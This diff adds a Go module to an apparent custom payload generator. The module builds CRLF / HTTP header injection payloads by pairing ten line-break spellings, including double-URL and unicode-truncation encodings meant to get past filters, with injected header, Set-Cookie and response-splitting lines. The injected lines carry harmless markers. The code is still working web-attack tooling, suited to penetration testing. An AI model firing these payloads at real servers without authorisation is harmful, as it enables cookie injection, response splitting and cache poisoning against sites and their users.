@@ -0,0 +1,82 @@
+package modules
+
+import (
+	"strings"
+
+	"github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
+)
+
+// CRLFPayload is a header injection together with the response header that proves it worked
+type CRLFPayload struct {
+	Technique string          `json:"technique"` // how the line break is written: raw, url, double-url, unicode, cr-only, ...
+	Injection string          `json:"injection"` // header, set-cookie or response-splitting
+	Header    string          `json:"header"`    // response header to look for
+	Marker    string          `json:"marker"`    // value that header must contain
+	Payload   string          `json:"payload"`
+	Encodings []utils.Variant `json:"encodings,omitempty"`
+}
+
+// crlfLineEscaper writes raw line breaks as \r and \n so each payload stays on one txt line
+var crlfLineEscaper = strings.NewReplacer("\r", `\r`, "\n", `\n`)
+
+// Text returns the CRLF payload for line-based output. JSON keeps the raw bytes in Payload;
+// here raw line breaks are escaped, since they would otherwise split the payload across lines.
+func (p CRLFPayload) Text() string {
+	return crlfLineEscaper.Replace(p.Payload)
+}
+
+func init() {
+	register("crlf", "Generate CRLF / HTTP header injection payloads", GenerateCRLFPayloads)
+}
+
+// crlfBreaks are the spellings of a line break that servers and proxies have been seen to honour
+var crlfBreaks = []struct {
+	Technique string
+	Break     string
+}{
+	{"raw", "\r\n"},
+	{"url", "%0d%0a"},
+	{"url-upper", "%0D%0A"},
+	{"double-url", "%250d%250a"},
+	{"lf-only", "%0a"},
+	{"cr-only", "%0d"},
+	{"raw-cr-only", "\r"},
+	// U+560D U+560A, which servers that truncate to a single byte turn into \r\n
+	{"unicode-truncation", "%E5%98%8D%E5%98%8A"},
+	{"unicode-line-separator", "%E2%80%A8"},
+	{"unicode-next-line", "%C2%85"},
+}
+
+// crlfInjections are the harmless lines written after the break, each with the header that shows it arrived
+var crlfInjections = []struct {
+	Injection string
+	Header    string
+	Line      string
+}{
+	{"header", "X-Injected", "X-Injected:{{marker}}"},
+	{"set-cookie", "Set-Cookie", "Set-Cookie:crlf={{marker}}"},
+	// a blank line ends the headers, so the marker also shows up as the start of the body
+	{"response-splitting", "X-Injected", "X-Injected:{{marker}}{{break}}{{break}}{{marker}}"},
+}
+
+// GenerateCRLFPayloads combines every line-break spelling with every injected line
+func GenerateCRLFPayloads(opts Options) ([]CRLFPayload, error) {
+	var payloads []CRLFPayload
+	for _, inj := range crlfInjections {
+		for _, b := range crlfBreaks {
+			tpl := strings.ReplaceAll("{{break}}"+inj.Line, "{{break}}", b.Break)
+			for _, e := range expand(opts, tpl) {
+				payload := e.Text
+				payloads = append(payloads, CRLFPayload{
+					Technique: b.Technique,
+					Injection: inj.Injection,
+					Header:    inj.Header,
+					Marker:    e.Bindings["marker"],
+					Payload:   payload,
+					Encodings: utils.EncodeVariants(payload, opts.encoders()),
+				})
+			}
+		}
+	}
+	return payloads, nil
+}